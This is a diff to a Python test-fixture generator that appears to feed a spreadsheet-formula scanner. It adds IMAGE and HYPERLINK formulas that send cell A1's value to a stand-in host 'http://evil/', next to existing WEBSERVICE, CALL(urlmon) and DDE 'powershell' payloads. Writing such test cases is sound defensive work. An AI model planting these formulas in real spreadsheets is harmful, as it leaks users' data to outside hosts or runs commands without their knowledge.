@@ -170,6 +170,8 @@ def hand_made() -> Iterator[tuple[str, str, bytes]]:
         ("powershell", "powershell|'x'!A1"),
         ("webservice", 'WEBSERVICE("http://evil/"&amp;A1)'),
         ("register", 'CALL("urlmon","x")'),
+        ("picture from elsewhere", '_xlfn.IMAGE("http://evil/?"&amp;A1)'),
+        ("link that tells", 'HYPERLINK("http://evil/?"&amp;A1,"more")'),
         ("rtd", 'RTD("x",,"y")'),
     ):
         yield name, "OPN-11", cell(f'<row r="900"><c r="A900"><f>{formula}</f><v>1</v></c></row>', base)
